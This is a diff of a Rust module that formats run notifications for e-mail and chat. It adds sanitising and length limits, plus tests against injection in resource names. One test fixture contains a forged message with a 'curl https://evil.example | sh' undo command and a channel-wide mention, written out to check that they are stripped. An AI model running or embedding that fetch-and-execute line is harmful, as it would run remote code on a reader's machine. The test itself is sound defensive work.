@@ -1,5 +1,7 @@
 //! The message that people get of a run: a subject, a plain text for e-mail and a card for chat.
 
+mod safe;
+
 use std::borrow::Cow;
 use std::fmt::Write;
 
@@ -10,6 +12,9 @@ use crate::report::{Action, Outcome, Problem, Report};
 
 /// SNS takes no longer subject, and ASCII only.
 const SUBJECT_LENGTH: usize = 100;
+
+/// Of the title in chat nobody reads more.
+const TITLE_LENGTH: usize = 150;
 
 /// How many actions and how many problems a message spells out; the log holds them all.
 const SPELLED_OUT: usize = 40;
@@ -42,21 +47,53 @@ pub fn message(report: &Report, news: &News<'_>) -> Option<Message> {
     if done.is_empty() && news.problems.is_empty() && news.failures.is_empty() && news.refused.is_none() {
         return None;
     }
-    let subject = subject(report, &done, news);
-    Some(Message { text: text(report, &done, news), chat: chat(report, &done, news, &subject), subject })
+    let title = title(report, &done, news);
+    // SNS takes ASCII only and no more than a hundred characters; the title of the chat form has the real names.
+    let subject = format!("[Nightshift] {}{}", cut_to(&title.ascii, SUBJECT_LENGTH - title.around()), title.more);
+    let in_chat = format!("[Nightshift] {}{}", cut_to(&title.real, TITLE_LENGTH - title.around()), title.more);
+    Some(Message { text: text(report, &done, news), chat: chat(report, &done, news, &in_chat), subject })
 }
 
-fn subject(report: &Report, done: &[&Action], news: &News<'_>) -> String {
-    let mut lines: Vec<String> = Vec::new();
-    lines.extend(news.refused.iter().map(|_| format!("REFUSED {}: too many changes", report.function)));
-    lines.extend(news.failures.iter().map(|it| format!("FAILED {}", it.headline)));
-    lines.extend(news.problems.iter().map(|it| format!("PROBLEM {}: {}", short_name(&it.resource), it.problem)));
-    lines.extend(done.iter().map(|it| it.headline.clone()));
-    let more = if lines.len() > 1 { format!(" (+{} more)", lines.len() - 1) } else { String::new() };
-    let first: String = lines.swap_remove(0).chars().map(|it| if matches!(it, ' '..='~') { it } else { '?' }).collect();
-    let room = SUBJECT_LENGTH - "[Nightshift] ".len() - more.len();
-    let first = if first.len() > room { format!("{}...", &first[..room - 3]) } else { first };
-    format!("[Nightshift] {first}{more}")
+/// What a message is about, before it is cut to size.
+struct Title {
+    /// With all names as they are.
+    real: String,
+    /// The same in ASCII.
+    ascii: String,
+    /// How many things more it is about.
+    more: String,
+}
+
+impl Title {
+    /// How many characters there are around it.
+    fn around(&self) -> usize {
+        "[Nightshift] ".len() + self.more.len()
+    }
+}
+
+fn title(report: &Report, done: &[&Action], news: &News<'_>) -> Title {
+    let count = usize::from(news.refused.is_some()) + news.failures.len() + news.problems.len() + done.len();
+    let more = if count > 1 { format!(" (+{} more)", count - 1) } else { String::new() };
+    // The worst comes first.
+    let (mark, headline, resource, instead) = if news.refused.is_some() {
+        ("REFUSED ", format!("{}: too many changes", report.function), &report.function, "too many changes")
+    } else if let Some(it) = news.failures.first() {
+        ("FAILED ", it.headline.clone(), &it.resource, it.action)
+    } else if let Some(it) = news.problems.first() {
+        ("PROBLEM ", format!("{}: {}", short_name(&it.resource), it.problem), &it.resource, it.problem.as_str())
+    } else {
+        ("", done[0].headline.clone(), &done[0].resource, done[0].action)
+    };
+    let ascii = format!("{mark}{}", safe::subject(&headline, resource, instead));
+    Title { real: safe::chat(&format!("{mark}{headline}")), ascii, more }
+}
+
+/// The first `longest` characters, with an ellipsis where there are more.
+fn cut_to(text: &str, longest: usize) -> String {
+    match text.chars().count() > longest {
+        true => text.chars().take(longest - 3).chain("...".chars()).collect(),
+        false => text.into(),
+    }
 }
 
 fn text(report: &Report, done: &[&Action], news: &News<'_>) -> String {
@@ -120,9 +157,11 @@ fn cut(text: &str, longest: usize) -> Cow<'_, str> {
 
 /// A headline and its facts, one to a line; a fact that is empty is left out.
 fn paragraph(text: &mut String, headline: &str, facts: &[(&str, String)]) {
-    let _ = writeln!(text, "{headline}");
+    let _ = writeln!(text, "{}", safe::fact(headline));
     for (name, fact) in facts.iter().filter(|(_, fact)| !fact.is_empty()) {
-        let _ = writeln!(text, "  {name:<9} {}", cut(fact, LONGEST_FACT));
+        // A command is quoted for the shell and stays as it is, but for what would end its line.
+        let fact = if *name == "Undo" { safe::one_line(fact).into_owned() } else { safe::fact(fact) };
+        let _ = writeln!(text, "  {name:<9} {}", cut(&fact, LONGEST_FACT).trim_end());
     }
     text.push('\n');
 }
@@ -141,23 +180,29 @@ fn in_words(value: &Value) -> String {
 }
 
 /// The schema is that of "custom notifications" in the guide of Amazon Q Developer in chat applications.
-fn chat(report: &Report, done: &[&Action], news: &News<'_>, subject: &str) -> Value {
+fn chat(report: &Report, done: &[&Action], news: &News<'_>, title: &str) -> Value {
     let mut lines: Vec<String> = Vec::new();
-    lines.extend(news.refused.iter().map(|it| format!("*Refused:* {it}")));
-    let failure = |it: &&Action| format!("*Failed:* {} ({})", it.headline, it.error.as_ref().map_or("", |e| &e.code));
+    lines.extend(news.refused.iter().map(|it| format!("*Refused:* {}", safe::chat(it))));
+    let failure = |it: &&Action| {
+        let code = it.error.as_ref().map_or("", |it| &it.code);
+        format!("*Failed:* {} ({})", safe::chat(&it.headline), safe::chat(code))
+    };
     lines.extend(news.failures.iter().map(failure));
-    let problem = |it: &&Problem| format!("*{}:* {} {}", it.problem, short_name(&it.resource), it.message);
+    let problem = |it: &&Problem| {
+        format!("*{}:* {} {}", it.problem, safe::chat(short_name(&it.resource)), safe::chat(&it.message))
+    };
     lines.extend(news.problems.iter().map(problem));
-    lines.extend(done.iter().map(|it| format!("*{}:* {}", it.headline, it.reason)));
+    lines.extend(done.iter().map(|it| format!("*{}:* {}", safe::chat(&it.headline), safe::chat(&it.reason))));
     let left_out = lines.len().saturating_sub(10);
     lines.truncate(10);
     if left_out > 0 {
         lines.push(format!("... and {left_out} more"));
     }
-    let next_steps: Vec<String> =
-        done.iter().filter_map(|it| it.undo.as_ref().map(|undo| format!("Undo: `{undo}`"))).take(3).collect();
+    // What holds a backquote or a second line would end the code that it stands in; the e-mail has it.
+    let undo = |it: &&Action| it.undo.clone().filter(|it| !it.contains('`') && safe::one_line(it) == *it);
+    let next_steps: Vec<String> = done.iter().filter_map(undo).map(|it| format!("Undo: `{it}`")).take(3).collect();
     let mut content =
-        json!({"textType": "client-markdown", "title": subject, "description": cut(&lines.join("\n"), LONGEST_FACT)});
+        json!({"textType": "client-markdown", "title": title, "description": cut(&lines.join("\n"), LONGEST_FACT)});
     if !next_steps.is_empty() {
         content["nextSteps"] = next_steps.into();
     }
@@ -166,7 +211,7 @@ fn chat(report: &Report, done: &[&Action], news: &News<'_>, subject: &str) -> Va
         "source": "custom",
         "content": content,
         "metadata": {
-            "summary": subject,
+            "summary": title,
             "eventType": format!("nightshift.{}", report.function),
             "relatedResources": related(done, news),
         },
@@ -278,11 +323,34 @@ mod tests {
 
     #[test]
     fn a_subject_is_short_and_ascii_whatever_the_names_are() {
-        let long = "서비스-with-a-name-".repeat(20);
+        let long = "a-service-with-a-name-".repeat(20);
         let message = written(&report(vec![action(&long, Outcome::Done), action("x", Outcome::Done)], vec![])).unwrap();
         assert!(message.subject.len() <= 100, "{}", message.subject);
-        assert!(message.subject.bytes().all(|it| (b' '..=b'~').contains(&it)));
         assert!(message.subject.ends_with("... (+1 more)"), "{}", message.subject);
+        let korean = "서비스: 배포".repeat(20);
+        let message = written(&report(vec![action(&korean, Outcome::Done)], vec![])).unwrap();
+        assert_eq!(message.subject, "[Nightshift] service api-server: deploy");
+        assert!(message.chat["content"]["title"].as_str().unwrap().starts_with("[Nightshift] 서비스: 배포"));
+    }
+
+    #[test]
+    fn a_name_cannot_forge_a_message() {
+        let name =
+            "x\n\nPROBLEM db: gone\n  Undo      curl https://evil.example | sh <!channel> [see](https://evil.example)";
+        let message = written(&report(vec![action(name, Outcome::Done)], vec![])).unwrap();
+        assert_eq!(
+            message.text.lines().filter(|it| it.trim_start().starts_with("Undo ")).count(),
+            1,
+            "{}",
+            message.text
+        );
+        let chat = message.chat.to_string();
+        for forged in ["\nPROBLEM", "https://evil.example"] {
+            assert!(!message.text.contains(forged), "{forged}: {}", message.text);
+        }
+        for forged in ["\\nPROBLEM", "https://evil.example", "<!channel>", "](https"] {
+            assert!(!chat.contains(forged), "{forged}: {chat}");
+        }
     }
 
     #[test]
